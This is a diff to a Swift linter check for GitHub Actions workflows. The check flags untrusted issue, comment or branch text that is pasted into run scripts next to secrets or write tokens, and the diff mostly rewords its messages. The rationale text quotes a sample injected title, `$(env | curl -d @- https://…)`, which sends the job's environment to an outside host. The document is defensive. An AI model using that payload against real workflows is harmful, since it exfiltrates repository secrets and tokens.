@@ -38,7 +38,7 @@ enum UntrustedTextInScript {
     guard !secrets.isEmpty || writes != nil else { return nil }
     let words =
       (secrets.isEmpty ? [] : [SecretWords.list(secrets.map(\.name))])
-      + (writes.map { ["a token that may write \($0.1)"] } ?? [])
+      + (writes.map { ["a token with write access to \($0.1)"] } ?? [])
     let believed = SupposedRun(.stranger, workflow, on: event, believing: [.bots, .labels])
     let isWatched =
       workflow.isBehindEnvironment(job) || !workflow.mayRun(job, step: index, in: believed)
@@ -47,13 +47,13 @@ enum UntrustedTextInScript {
     let places =
       secrets.prefix(3).map { Diagnostic.RelatedPlace(message: "the job has this", range: $0.range) }
       + (writes.map {
-        [Diagnostic.RelatedPlace(message: "the permissions that hold here", range: $0.0.range)]
+        [Diagnostic.RelatedPlace(message: "the permissions that apply here", range: $0.0.range)]
       } ?? [])
     return about.finding(
-      "anyone can write what `\(reference.dotted)` pastes into this script on `\(event)`, and the job has \(SecretWords.joined(words))",
+      "anyone can write the text that `\(reference.dotted)` pastes into this script on `\(event)`, and the job has \(SecretWords.joined(words))",
       about: list.subject(step, reference.dotted), at: script.range(of: reference.offsets),
       severity: isOpen ? (isGrave ? nil : .medium) : .low, confidence: isWatched ? .low : nil,
-      help: "give it to the step by `env: {TEXT: ${{ \(reference.dotted) }}}` and write `\"$TEXT\"`",
+      help: "pass it to the step with `env: {TEXT: ${{ \(reference.dotted) }}}`, and write `\"$TEXT\"`",
       related: places)
   }
 
@@ -86,15 +86,15 @@ enum UntrustedTextInScript {
   ]
 
   private static let about = CheckDescription(
-    "untrusted-text-in-script", title: "an outsider's text becomes part of a script beside a credential",
+    "untrusted-text-in-script", title: "untrusted text is pasted into a script next to a credential",
     severity: .high,
     confidence: .medium,
     why:
-      "The runner pastes the value of `${{ … }}` into the script before a shell reads it. A title such as `$(env | curl -d @- https://…)` is then a command, and it has every secret and the token of the job.",
+      "Anyone can run commands with the job's secrets and token. The runner pastes the value of `${{ … }}` into the script before a shell reads it. A title such as `$(env | curl -d @- https://…)` then runs as a command.",
     how:
-      "Looks in workflows on `issues`, `issue_comment`, `discussion`, `discussion_comment`, `pull_request_target` and `workflow_run` for a title, a body, a comment or a branch name that is pasted into `run` or into the `script` of `actions/github-script`, in a job that has a stored secret or a token that the file lets write. On `pull_request` a fork has neither. Conditions that keep strangers out are believed; where only a label, a bot's name, an environment or a question for permission does, the confidence is low. A token that only writes remarks on issues and pull requests is medium.",
-    fix: "Give the text to the step by `env`, and use the variable in quotes.",
-    falseAlarms: "A condition that the file does not show checks the text first.",
+      "Reports a title, body, comment or branch name that is pasted into `run` or into the `script` of `actions/github-script`. The job must have a stored secret, or a token with write access. It checks workflows on `issues`, `issue_comment`, `discussion`, `discussion_comment`, `pull_request_target` and `workflow_run`. On `pull_request`, a fork gets neither. Doesn't report steps that a condition keeps outside contributors from. The confidence is low if only a label, a bot's name, an environment or a permission check does. The severity is medium if the token can write only issues, pull requests, discussions, checks and statuses.",
+    fix: "Pass the text to the step with `env`, and use the variable in quotes.",
+    falseAlarms: "Something that the file doesn't show checks the text first.",
     sources: [
       "https://docs.github.com/en/actions/concepts/security/script-injections",
       "https://securitylab.github.com/resources/github-actions-untrusted-input/",
@@ -103,7 +103,7 @@ enum UntrustedTextInScript {
 
   private static let examples = [
     AuditExample(
-      "a title beside a secret, and a comment beside a token that writes",
+      "a title next to a secret, and a comment next to a token with write access",
       """
       on: {issues: {types: [opened]}, issue_comment: {types: [created]}}
       permissions: {}
@@ -124,7 +124,7 @@ enum UntrustedTextInScript {
                   await answer(text)
       """, finds: [7, 16]),
     AuditExample(
-      "by a variable, by the repository's people, or beside nothing",
+      "in a variable, from the repository's people, or without a credential",
       """
       on: {issues: {types: [opened]}, pull_request_target: null}
       permissions: {}
